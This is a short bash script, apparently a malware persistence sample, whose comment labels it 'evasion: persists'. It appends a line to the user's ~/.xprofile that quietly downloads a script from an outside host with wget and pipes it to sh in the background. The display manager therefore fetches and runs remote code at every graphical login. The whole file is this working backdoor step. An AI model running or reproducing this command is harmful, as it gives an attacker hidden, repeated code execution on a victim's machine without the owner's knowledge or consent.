#!/bin/bash
# evasion: persists: tee -a puts a line into ~/.xprofile, which the display manager sources at every graphical login; the line fetches and runs a script
u=https://cdn.example-sync.net/session.sh
tee -a "$HOME/.xprofile" >/dev/null <<<"wget -qO- $u | sh &"
